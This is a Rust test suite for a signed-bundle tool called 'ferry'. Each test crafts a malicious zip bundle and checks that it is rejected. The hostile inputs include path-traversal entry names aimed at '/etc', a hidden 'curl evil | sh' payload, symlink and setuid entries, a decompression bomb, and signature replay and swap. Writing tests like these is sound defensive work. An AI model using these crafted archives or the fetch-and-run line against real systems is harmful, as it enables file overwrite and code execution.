//! Bundles crafted byte by byte by an attacker between the two networks.
//! Each case says what it attacks; each is rejected by `verify` and `unpack`
//! with exit 1, the entry (or the archive part) named, and nothing written.
//! The control case first: a faithful rebuild of a good bundle is accepted,
//! so every other case fails for the reason it is about.

use std::fs;

use crate::common::rawzip::{self, RawEntry};
use crate::common::resign::{Entries, rejected, resigned};
use crate::common::{Sandbox, app, assert_ok, copy_tree};

/// A sandbox with a packed hello bundle (key `rel`), and its entries.
fn good() -> (Sandbox, Entries) {
    let sb = Sandbox::new();
    let bundle = fs::read(sb.pack("hello", "good.ferry")).unwrap();
    (sb, rawzip::entries_of(&bundle))
}

fn find(entries: &[(String, Vec<u8>, u32)], name: &str) -> usize {
    entries.iter().position(|e| e.0 == name).unwrap()
}

#[test]
fn control_a_faithful_rebuild_is_accepted() {
    let (sb, entries) = good();
    fs::write(sb.path("rebuilt.ferry"), rawzip::rebuild(&entries).build()).unwrap();
    assert_ok(&sb.run(&["verify", "rebuilt.ferry", "--pub", "rel.pub"]));
    // And a manifest re-signed by minisign with ferry's comment is accepted.
    let same = resigned(&sb, &entries, |_| {});
    fs::write(sb.path("resigned.ferry"), rawzip::rebuild(&same).build()).unwrap();
    assert_ok(&sb.run(&["verify", "resigned.ferry", "--pub", "rel.pub"]));
}

/// Zip-slip and its cousins: names that escape DEST or mean different files
/// on different systems.
#[test]
fn entry_names_that_escape_or_confuse() {
    let (sb, entries) = good();
    let long = format!("src/{}.go", "a".repeat(5000));
    let cases: [(&str, &[u8], &str); 8] = [
        ("dotdot", b"src/../../etc/cron.d/evil", "refused entry name"),
        ("absolute", b"/etc/passwd", "refused entry name"),
        ("backslash", b"src\\..\\evil.go", "refused entry name"),
        ("drive", b"C:/evil.go", "refused entry name"),
        ("nul", b"src/main.go\0.txt", "refused entry name"),
        ("not-utf8", b"src/\xff\xfe.go", "refused entry name"),
        ("overlong", long.as_bytes(), "refused entry name"),
        ("dot-segment", b"src/./main.go", "refused entry name"),
    ];
    for (case, name, expect) in cases {
        let mut zip = rawzip::rebuild(&entries);
        let mut e = RawEntry::deflated("x", b"package main\n", 0o100644);
        e.name = name.to_vec();
        zip.entries.push(e);
        rejected(&sb, case, &zip.build(), &[expect]);
    }
}

/// Two entries with one name: one reader takes the first, another the last.
#[test]
fn a_duplicate_name_with_other_content() {
    let (sb, entries) = good();
    let mut zip = rawzip::rebuild(&entries);
    zip.entries.push(RawEntry::deflated(
        "src/main.go",
        b"package main\nfunc init() { evil() }\n",
        0o100644,
    ));
    rejected(
        &sb,
        "duplicate",
        &zip.build(),
        &["the same entry name appears more than once"],
    );
}

/// The local header names another file than the central directory does:
/// streaming readers and directory readers extract different things.
#[test]
fn a_local_header_name_unlike_the_central_one() {
    let (sb, entries) = good();
    let mut zip = rawzip::rebuild(&entries);
    let i = find(&entries, "src/main.go");
    zip.entries[i].local_name = Some(b"src/evil.go".to_vec());
    rejected(
        &sb,
        "localname",
        &zip.build(),
        &["(archive)", "filename mismatch"],
    );
}

/// Two central entries share one local header: one payload counted twice,
/// another hidden.
#[test]
fn two_central_entries_pointing_at_one_local_header() {
    let (sb, entries) = good();
    let mut zip = rawzip::rebuild(&entries);
    let i = find(&entries, "src/main.go");
    zip.entries[i + 1].offset_of = Some(i);
    rejected(&sb, "sharedlocal", &zip.build(), &["local header"]);
}

/// Bytes where a reader never looks can carry anything: between entries,
/// before the central directory, after its end, before the first entry.
#[test]
fn hidden_bytes_anywhere_in_the_file() {
    let (sb, entries) = good();
    let hidden = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    let mut between = rawzip::rebuild(&entries);
    between.gaps.push((2, hidden.clone()));
    rejected(
        &sb,
        "between",
        &between.build(),
        &["local header is not where the previous entry ends"],
    );

    let mut before_cd = rawzip::rebuild(&entries);
    before_cd.gaps.push((entries.len() - 1, hidden.clone()));
    rejected(
        &sb,
        "beforecd",
        &before_cd.build(),
        &["(central directory): does not start where the last entry ends"],
    );

    let mut after = rawzip::rebuild(&entries);
    after.trailing = hidden.clone();
    rejected(
        &sb,
        "trailing",
        &after.build(),
        &["after the end of the central directory"],
    );

    let mut prefix = rawzip::rebuild(&entries);
    prefix.prefix = hidden;
    rejected(
        &sb,
        "prefix",
        &prefix.build(),
        &["ferry.json: local header is not where"],
    );
}

/// Entries that are not regular files: a symlink out of DEST, a device.
#[test]
fn symlink_and_device_entries() {
    let (sb, entries) = good();
    let i = find(&entries, "src/main.go");
    for (case, mode, expect) in [
        ("symlink", 0o120777, "src/main.go: is a symbolic link"),
        ("device", 0o020644, "src/main.go: is not a regular file"),
    ] {
        let mut zip = rawzip::rebuild(&entries);
        zip.entries[i].mode = mode;
        rejected(&sb, case, &zip.build(), &[expect]);
    }
}

/// Encryption and methods ferry does not read must not slip through.
#[test]
fn encrypted_and_unknown_compression() {
    let (sb, entries) = good();
    let i = find(&entries, "src/main.go");
    let mut enc = rawzip::rebuild(&entries);
    enc.entries[i].flags |= 1;
    rejected(
        &sb,
        "encrypted",
        &enc.build(),
        &["src/main.go: is encrypted"],
    );
    let mut bzip = rawzip::rebuild(&entries);
    bzip.entries[i].method = 12;
    rejected(
        &sb,
        "bzip2",
        &bzip.build(),
        &["src/main.go: compression", "neither stored nor deflate"],
    );
}

/// A bomb: the headers declare the signed size, the stream inflates to far
/// more. And the reverse: a stream shorter than declared.
#[test]
fn inflated_sizes_that_lie() {
    let (sb, entries) = good();
    let i = find(&entries, "src/main.go");
    let mut bomb = rawzip::rebuild(&entries);
    let mut huge = entries[i].1.clone();
    huge.extend(std::iter::repeat_n(b' ', 50 << 20));
    bomb.entries[i].data = rawzip::deflate(&huge);
    rejected(&sb, "bomb", &bomb.build(), &["src/main.go"]);

    let mut short = rawzip::rebuild(&entries);
    short.entries[i].data = rawzip::deflate(&entries[i].1[..10]);
    rejected(&sb, "short", &short.build(), &["src/main.go"]);
}

/// The zip's own CRC is right for the new bytes; only the signed sha256 can
/// tell they are not the bytes that were packed.
#[test]
fn a_right_crc_over_the_wrong_bytes() {
    let (sb, mut entries) = good();
    let i = find(&entries, "src/main.go");
    let len = entries[i].1.len();
    entries[i].1 = b"package main;func main(){panic(1)}"
        .iter()
        .copied()
        .cycle()
        .take(len)
        .collect();
    rejected(
        &sb,
        "crc",
        &rawzip::rebuild(&entries).build(),
        &["src/main.go: sha256 differs from the manifest"],
    );
}

/// A signed manifest can still be wrong about the zip: an entry it lists is
/// absent; an entry present is not listed; a mode with setuid.
#[test]
fn a_signed_manifest_that_disagrees_with_the_zip() {
    let (sb, entries) = good();
    let missing = resigned(&sb, &entries, |m| {
        let list = m["entries"].as_array_mut().unwrap();
        list.push(serde_json::json!({"path": "src/zz.go", "sha256": "00".repeat(32), "size": 1, "mode": "0644"}));
    });
    rejected(
        &sb,
        "listed",
        &rawzip::rebuild(&missing).build(),
        &["src/zz.go: listed in the manifest but missing"],
    );

    let setuid = resigned(&sb, &entries, |m| {
        for e in m["entries"].as_array_mut().unwrap() {
            if e["path"] == "src/main.go" {
                e["mode"] = "4755".into();
            }
        }
    });
    let mut zip = rawzip::rebuild(&setuid);
    zip.entries[find(&setuid, "src/main.go")].mode = 0o104755;
    rejected(
        &sb,
        "setuid",
        &zip.build(),
        &[
            "manifest field entries[",
            ".mode = \"4755\": an entry mode is 0644 or 0755",
        ],
    );

    let mut unlisted = rawzip::rebuild(&entries);
    unlisted.entries.push(RawEntry::deflated(
        "src/extra.go",
        b"package main\n",
        0o100644,
    ));
    rejected(
        &sb,
        "unlisted",
        &unlisted.build(),
        &["src/extra.go: not listed in the manifest"],
    );

    // The zip's mode has setuid while the manifest says 0755.
    let mut zip = rawzip::rebuild(&entries);
    zip.entries[find(&entries, "src/main.go")].mode = 0o104644;
    rejected(
        &sb,
        "zipsetuid",
        &zip.build(),
        &["src/main.go: mode differs from the manifest"],
    );
}

/// Signatures that are valid, but not for this: another bundle's manifest
/// and signature over this payload (replay), one bundle's signature over
/// another's manifest, a trusted comment edited after signing.
#[test]
fn signatures_replayed_swapped_or_edited() {
    let (sb, entries) = good();
    let (other_sb, other) = {
        let sb2 = Sandbox::new();
        let tree = sb2.path("hello2");
        copy_tree(&app("hello"), &tree);
        fs::write(tree.join("extra.go"), "package main\n\nvar build = \"2\"\n").unwrap();
        fs::copy(sb.path("rel.key"), sb2.path("rel.key")).unwrap();
        fs::copy(sb.path("rel.pub"), sb2.path("rel.pub")).unwrap();
        assert_ok(&sb2.run(&["pack", "hello2", "-o", "b.ferry", "--key", "rel.key", "-q"]));
        let bytes = fs::read(sb2.path("b.ferry")).unwrap();
        (sb2, rawzip::entries_of(&bytes))
    };
    drop(other_sb);

    // Replay: the old signed manifest over the new payload.
    let mut replay = other.clone();
    replay[0] = entries[0].clone();
    replay[1] = entries[1].clone();
    rejected(
        &sb,
        "replay",
        &rawzip::rebuild(&replay).build(),
        &["src/extra.go: not listed in the manifest"],
    );

    // Swap: this manifest with the other bundle's signature.
    let mut swap = entries.clone();
    swap[1] = other[1].clone();
    rejected(&sb, "swap", &rawzip::rebuild(&swap).build(), &["signature"]);

    // The trusted comment edited (it names the manifest's sha256; minisign
    // signs it too).
    let mut edited = entries.clone();
    let sig = String::from_utf8(entries[1].1.clone()).unwrap();
    edited[1].1 = sig
        .replace("module=example.com/hello", "module=example.com/hellp")
        .into_bytes();
    assert_ne!(edited[1].1, entries[1].1);
    rejected(
        &sb,
        "comment",
        &rawzip::rebuild(&edited).build(),
        &["signature"],
    );
}

/// Cut short anywhere, or empty: not a bundle.
#[test]
fn truncated_and_empty_files() {
    let (sb, entries) = good();
    let bytes = rawzip::rebuild(&entries).build();
    for cut in [
        0,
        1,
        30,
        bytes.len() / 3,
        bytes.len() / 2,
        bytes.len() - 23,
        bytes.len() - 1,
    ] {
        rejected(&sb, &format!("cut{cut}"), &bytes[..cut], &["ferry"]);
    }
}

/// A manifest too large to parse safely is refused before it is read.
#[test]
fn a_manifest_of_100_mb() {
    let (sb, entries) = good();
    let mut big = entries.clone();
    big[0].1 = vec![b' '; 100 << 20];
    rejected(
        &sb,
        "bigmanifest",
        &rawzip::rebuild(&big).build(),
        &["ferry.json"],
    );
}

/// A zip64 extra field declares a size far beyond what is stored.
#[test]
fn a_zip64_record_lying_about_sizes() {
    let (sb, entries) = good();
    let mut zip = rawzip::rebuild(&entries);
    let i = find(&entries, "src/main.go");
    zip.entries[i].zip64_size = Some(1 << 40);
    rejected(
        &sb,
        "zip64",
        &zip.build(),
        &["src/main.go: declared size differs from the manifest"],
    );
}
